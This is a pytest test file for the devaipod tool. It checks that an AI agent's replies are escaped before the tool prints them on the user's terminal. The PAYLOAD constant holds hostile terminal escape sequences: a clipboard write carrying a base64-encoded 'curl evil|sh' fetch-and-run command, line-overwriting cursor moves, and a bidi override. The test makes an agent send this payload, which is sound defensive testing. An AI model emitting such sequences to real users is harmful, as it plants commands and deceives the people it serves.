"""The agent's words on the user's terminal.

The agent writes its messages and its tools' output; `devaipod list`, `status`,
`opencode ... send|status` and `run --wait` print them on the user's terminal.
"""

from __future__ import annotations

import json

import pytest

from podfixtures import run_devaipod

pytestmark = pytest.mark.podman

# OSC 52 (write the clipboard), erase the line and move up, a bidi override
PAYLOAD = r"\033]52;c;Y3VybCBldmlsfHNo\007\033[2K\033[1Adone\342\200\256hs.txt"


def test_the_agents_text_cannot_drive_the_users_terminal(hostile_pod):
    """Attack: the agent's reply carries terminal control sequences (OSC 52 writes the
    user's clipboard, cursor moves overwrite lines, a bidi override reverses a name)
    for the human who runs `devaipod opencode send`, `list` or `status`."""
    pod = hostile_pod()
    short = pod.name.removeprefix("devaipod-")
    rc, out, err = run_devaipod("opencode", short, "send", f"RUN_BASH printf '{PAYLOAD}'",
                                timeout=180)
    assert rc == 0, err
    rc, raw, err = run_devaipod("status", short, "--json")
    assert "\x1b]52" in json.loads(raw)["last_message"]  # the attack reached the summary
    shown = [out]
    for args in (("list",), ("status", short), ("opencode", short, "status")):
        rc, text, err = run_devaipod(*args)
        assert rc == 0, err
        shown.append(text)
    assert any("\\x1b]52" in text for text in shown)  # shown, escaped
    for text in shown:
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, text
